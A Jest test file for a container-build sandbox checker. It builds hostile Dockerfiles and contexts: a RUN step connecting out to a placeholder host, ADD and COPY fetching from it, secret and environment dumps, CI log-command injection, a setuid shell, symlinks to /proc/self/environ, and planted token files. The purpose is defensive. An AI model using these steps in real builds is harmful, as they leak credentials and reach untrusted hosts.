import { spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, expect, test } from '@jest/globals';
import { answering, describeEngines, type EngineName } from '../engines.ts';
import { type Canary, plantCanary } from '../hostile/canary.ts';
import { liar, PERFECT, withContext } from '../hostile/sandbox.ts';
import { groupOf, titled } from '../hostile/table.ts';
import { Results } from './at-once.ts';
import { type Ended, runCommand } from './command.ts';

const SUITE = 'a Dockerfile, an image or a context that attacks';
const AT_ONCE = 3;
const TAG = 'localhost/sandbox-attestation-test-dockerfiles';

/** An instruction that runs Python, in the form that needs no shell. */
const runs = (python: string, flags = '') =>
  `RUN ${flags}${JSON.stringify(['/usr/bin/python3', '-c', python])}`;
const before = (line: string) => (text: string) => text.replace('USER 65532', `${line}\nUSER 65532`);
const instead = (line: string) => (text: string) => text.replace(/^ENTRYPOINT .*$/m, line);

/** Reads every file that the image has below /app, and puts it into a line. */
const TELLS_APP = liar(`found = {}
for folder, _, names in os.walk("/app"):
    for name in names:
        try: found[folder + "/" + name] = open(folder + "/" + name, "rb").read(300).decode("latin1")
        except OSError as error: found[folder + "/" + name] = str(error)
report(); LINES["PR-SOCK-1"] = [{"error": "PermissionError", "errno": 1, "message": json.dumps(found)[-4000:]}]
emit(LINES.items())`);

interface Attack {
  readonly dockerfile?: (text: string) => string;
  readonly payload?: string;
  /** Puts things into the context that are not text files. */
  readonly place?: (context: string, canary: Canary) => void;
}

const PROGRAM = (name: string) => (context: string) => {
  copyFileSync('/bin/true', join(context, name));
  chmodSync(join(context, name), 0o755);
};

/** By the row's id. */
const ATTACKS: Readonly<Record<string, Attack>> = {
  'run-reaches-out': {
    dockerfile: before(
      runs('import socket; socket.create_connection(("192.0.2.1", 80), 3); print("REA" + "CHED")'),
    ),
  },
  'run-reads-secrets': {
    dockerfile: before(
      runs('print(open("/run/secrets/GITHUB_TOKEN").read())', '--mount=type=secret,id=GITHUB_TOKEN '),
    ),
  },
  'run-tells-environment': {
    dockerfile: before(runs('import os, sys; sys.exit(str(dict(os.environ)))')),
  },
  'run-says-commands': {
    dockerfile: before(
      runs('import sys; sys.exit("\\n::error::y\\n##[error]y\\n::stop-commands::y\\x1b[2J")'),
    ),
  },
  'frontend-of-a-stranger': { dockerfile: (text) => `# syntax=docker.io/stranger/frontend:1\n${text}` },
  'add-from-network': { dockerfile: before('ADD https://192.0.2.1/x /x') },
  'copy-from-stranger': { dockerfile: before('COPY --from=192.0.2.1/stranger/image:1 /x /x') },
  healthcheck: { dockerfile: before('HEALTHCHECK --interval=1s CMD ["/usr/bin/python3", "-c", "1"]') },
  'entrypoint-shell-form': { dockerfile: instead('ENTRYPOINT /usr/bin/python3 -I /app/inspector/main.py') },
  'entrypoint-inline': {
    dockerfile: instead(
      `ENTRYPOINT ${JSON.stringify(['/usr/bin/python3', '-I', '-c', 'import runpy; runpy.run_path("/app/inspector/main.py")'])}`,
    ),
  },
  'place-is-a-link': { dockerfile: before(runs('import os; os.rmdir("/in"); os.symlink("/app", "/in")')) },
  'entrypoint-none': { dockerfile: instead('ENTRYPOINT []') },
  'interpreter-answers': {
    dockerfile: (text) =>
      instead('ENTRYPOINT ["/app/answers", "-I", "/app/inspector/main.py"]')(
        before('COPY --chmod=0755 answers /app/answers')(text),
      ),
    place: PROGRAM('answers'),
  },
  'interpreter-replaced': {
    dockerfile: before('COPY --chmod=0755 answers /usr/bin/python3.13'),
    place: PROGRAM('answers'),
  },
  'shells-without-ls': {
    dockerfile: before('COPY --chmod=0755 sh /usr/bin/sh\nCOPY --chmod=0755 sh /usr/local/bin/bash'),
    place: (context) => copyFileSync('/bin/dash', join(context, 'sh')),
  },
  setuid: {
    dockerfile: before('COPY --chmod=4755 sh /app/tool'),
    place: (context) => copyFileSync('/bin/dash', join(context, 'sh')),
  },
  'context-git-token': {
    dockerfile: before('COPY . /app'),
    payload: TELLS_APP,
    place: (context, { secret }) => {
      mkdirSync(join(context, '.git'));
      for (const name of ['.git/config', '.env', 'id_rsa', '.npmrc'])
        writeFileSync(join(context, name), secret);
    },
  },
  'context-links-out': {
    dockerfile: before('COPY . /app'),
    payload: TELLS_APP,
    place: (context, { path }) => {
      symlinkSync(path, join(context, 'link'));
      symlinkSync('..', join(context, 'up'));
      symlinkSync('/proc/self/environ', join(context, 'environ'));
    },
  },
  'context-fifo': {
    dockerfile: before('COPY . /app'),
    place: (context) => spawnSync('mkfifo', [join(context, 'pipe')]),
  },
  'context-100000-files': {
    dockerfile: before('COPY . /app'),
    place: (context) => {
      mkdirSync(join(context, 'many'));
      for (let n = 0; n < 100_000; n++) writeFileSync(join(context, 'many', String(n)), '');
    },
  },
};

async function attacked(engine: EngineName, id: string): Promise<Ended> {
  const attack = ATTACKS[id];
  if (attack === undefined) throw new Error(`no attack is called ${id}`);
  const { dockerfile, payload = PERFECT, place } = attack;
  const folder = mkdtempSync(join(tmpdir(), 'dockerfiles-'));
  const canary = plantCanary(folder);
  try {
    return await withContext({ payload, ...(dockerfile ? { dockerfile } : {}) }, (context) => {
      place?.(context, canary);
      return runCommand(engine, ['--context', context, '--tag', `${TAG}:${id}`], {
        canary,
        environment: { GITHUB_TOKEN: canary.secret },
      });
    });
  } finally {
    spawnSync(engine, ['image', 'rm', '--force', `${TAG}:${id}`]);
    rmSync(folder, { recursive: true, force: true });
  }
}

describeEngines(SUITE, (engine) => {
  const group = groupOf('engine/dockerfile-attacks.test.ts', SUITE);
  let results: Results<Ended>;
  beforeAll(async () => {
    const ids = answering.includes(engine) ? group.rows.map(([id]) => id) : [];
    results = await Results.of(ids, AT_ONCE, (id) => attacked(engine, id));
  }, 400_000);

  test.each(titled(group))('%s', (_, id, outcome) => {
    const { result, exitCode, stdout, stderr } = results.get(id);
    const codes = result.reasons.map(({ code }) => code).filter((code) => !code.startsWith('statement-'));
    if (outcome === 'ACCEPTED') expect(codes).toEqual([]);
    else expect(codes.some((code) => outcome.split(' or ').includes(code)) ? outcome : codes).toBe(outcome);
    expect(exitCode === 0).toBe(outcome === 'ACCEPTED');
    for (const line of `${stdout}\n${stderr}`.split('\n'))
      expect(line.trimStart().startsWith('::') || line.includes('##[')).toBe(false);
    expect(stderr).not.toContain('REACHED');
  });
});
